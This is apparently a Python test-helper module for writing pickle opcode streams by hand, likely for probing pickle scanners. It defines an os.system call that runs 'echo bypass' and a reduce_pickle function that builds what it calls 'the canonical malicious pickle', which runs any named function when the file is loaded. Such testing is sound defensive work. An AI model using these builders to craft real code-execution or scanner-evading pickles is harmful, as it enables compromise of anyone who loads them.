"""Protocol-exact pickle opcode builders.

Every helper returns ``bytes`` that are a fragment of a pickle stream; ``stream()`` wraps fragments into a
whole pickle (PROTO header + STOP). Nothing here imports the modules a fragment names, so gadgets from
modules missing on this host (distutils, _pyrepl, cloudpickle, pandas...) can be written too.

Notation follows ``pickletools``: ``sg(m, n)`` = SHORT_BINUNICODE m; SHORT_BINUNICODE n; STACK_GLOBAL.
"""

from __future__ import annotations

import struct
from collections.abc import Iterable
from dataclasses import dataclass
from typing import Any

# --- opcodes (pickle.py names) -------------------------------------------------------------------------
MARK = b"("
STOP = b"."
POP = b"0"
POP_MARK = b"1"
DUP = b"2"
FLOAT = b"F"
INT = b"I"
BININT = b"J"
BININT1 = b"K"
LONG = b"L"
BININT2 = b"M"
NONE = b"N"
PERSID = b"P"
BINPERSID = b"Q"
REDUCE = b"R"
STRING = b"S"
BINSTRING = b"T"
SHORT_BINSTRING = b"U"
UNICODE = b"V"
BINUNICODE = b"X"
APPEND = b"a"
BUILD = b"b"
GLOBAL = b"c"
DICT = b"d"
EMPTY_DICT = b"}"
APPENDS = b"e"
GET = b"g"
BINGET = b"h"
INST = b"i"
LONG_BINGET = b"j"
LIST = b"l"
EMPTY_LIST = b"]"
OBJ = b"o"
PUT = b"p"
BINPUT = b"q"
LONG_BINPUT = b"r"
SETITEM = b"s"
TUPLE = b"t"
EMPTY_TUPLE = b")"
SETITEMS = b"u"
BINFLOAT = b"G"
NEWOBJ = b"\x81"
EXT1 = b"\x82"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
LONG1 = b"\x8a"
LONG4 = b"\x8b"
SHORT_BINUNICODE = b"\x8c"
BINUNICODE8 = b"\x8d"
BINBYTES8 = b"\x8e"
EMPTY_SET = b"\x8f"
ADDITEMS = b"\x90"
FROZENSET = b"\x91"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
FRAME = b"\x95"
BYTEARRAY8 = b"\x96"
NEXT_BUFFER = b"\x97"
READONLY_BUFFER = b"\x98"
BINBYTES = b"B"
SHORT_BINBYTES = b"C"

CMD = "echo bypass"
PY_SRC = "__import__('os').system('echo bypass')"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def frame(length: int) -> bytes:
    return FRAME + struct.pack("<Q", length)


def u(s: str) -> bytes:
    """A str as SHORT_BINUNICODE / BINUNICODE."""
    b = s.encode("utf-8")
    if len(b) < 256:
        return SHORT_BINUNICODE + bytes([len(b)]) + b
    return BINUNICODE + struct.pack("<I", len(b)) + b


def big_unicode(n: int, ch: str = "A") -> bytes:
    return BINUNICODE + struct.pack("<I", n) + (ch * n).encode()


def by(b: bytes) -> bytes:
    if len(b) < 256:
        return SHORT_BINBYTES + bytes([len(b)]) + b
    return BINBYTES + struct.pack("<I", len(b)) + b


def s0(s: str) -> bytes:
    """Protocol-0 STRING operand (repr-quoted, newline-terminated)."""
    return STRING + repr(s).encode("ascii") + b"\n"


def binstring(s: str) -> bytes:
    b = s.encode("latin-1")
    if len(b) < 256:
        return SHORT_BINSTRING + bytes([len(b)]) + b
    return BINSTRING + struct.pack("<I", len(b)) + b


def binput(i: int) -> bytes:
    return BINPUT + bytes([i]) if i < 256 else LONG_BINPUT + struct.pack("<I", i)


def binget(i: int) -> bytes:
    return BINGET + bytes([i]) if i < 256 else LONG_BINGET + struct.pack("<I", i)


def glob(module: str, name: str) -> bytes:
    """Text GLOBAL (protocols 0-3 style, still valid in 4/5)."""
    return GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"


def sg(module: str, name: str) -> bytes:
    """Protocol-4 STACK_GLOBAL with literal unicode operands."""
    return u(module) + u(name) + STACK_GLOBAL


@dataclass(frozen=True)
class Raw:
    """Opcodes inserted verbatim where a value is expected (e.g. the result of a nested call)."""

    ops: bytes


def enc(value: Any) -> bytes:
    """Encode a plain value without memo operations (so memo indices in hand-written streams stay exact)."""
    if isinstance(value, Raw):
        return value.ops
    if value is None:
        return NONE
    if value is True:
        return NEWTRUE
    if value is False:
        return NEWFALSE
    if isinstance(value, int):
        if 0 <= value < 256:
            return BININT1 + bytes([value])
        if -(2**31) <= value < 2**31:
            return BININT + struct.pack("<i", value)
        n = (value.bit_length() + 8) // 8
        return LONG1 + bytes([n]) + value.to_bytes(n, "little", signed=True)
    if isinstance(value, float):
        return BINFLOAT + struct.pack(">d", value)
    if isinstance(value, str):
        return u(value)
    if isinstance(value, bytes):
        return by(value)
    if isinstance(value, tuple):
        if len(value) == 0:
            return EMPTY_TUPLE
        body = b"".join(enc(v) for v in value)
        if len(value) <= 3:
            return body + (TUPLE1, TUPLE2, TUPLE3)[len(value) - 1]
        return MARK + body + TUPLE
    if isinstance(value, list):
        if not value:
            return EMPTY_LIST
        return EMPTY_LIST + MARK + b"".join(enc(v) for v in value) + APPENDS
    if isinstance(value, dict):
        if not value:
            return EMPTY_DICT
        return EMPTY_DICT + MARK + b"".join(enc(k) + enc(v) for k, v in value.items()) + SETITEMS
    raise TypeError(f"cannot encode {type(value).__name__}")


def call(func: bytes, *args: Any) -> bytes:
    """``func(*args)``: func is opcodes that push a callable (e.g. ``sg(...)``)."""
    return func + enc(tuple(args)) + REDUCE


def gcall(module: str, name: str, *args: Any) -> bytes:
    """STACK_GLOBAL module.name, then call it with args."""
    return call(sg(module, name), *args)


def stream(*fragments: bytes, protocol: int | None = 4) -> bytes:
    """A whole pickle: optional PROTO header, the fragments, STOP."""
    head = proto(protocol) if protocol is not None else b""
    return head + b"".join(fragments) + STOP


def reduce_pickle(module: str, name: str, *args: Any, protocol: int = 4) -> bytes:
    """The canonical malicious pickle: ``module.name(*args)`` as the unpickled value."""
    if protocol >= 4:
        return stream(gcall(module, name, *args), protocol=protocol)
    return stream(call(glob(module, name), *args), protocol=protocol)


def chain(*steps: Iterable[bytes]) -> bytes:
    return b"".join(b"".join(s) if not isinstance(s, bytes) else s for s in steps)


class Reduce:
    """An object whose pickle is ``fn(*args)``. ``pickle.dumps`` of it writes the call; nothing runs."""

    def __init__(self, fn: Any, args: tuple[Any, ...]) -> None:
        self.fn = fn
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return (self.fn, self.args)
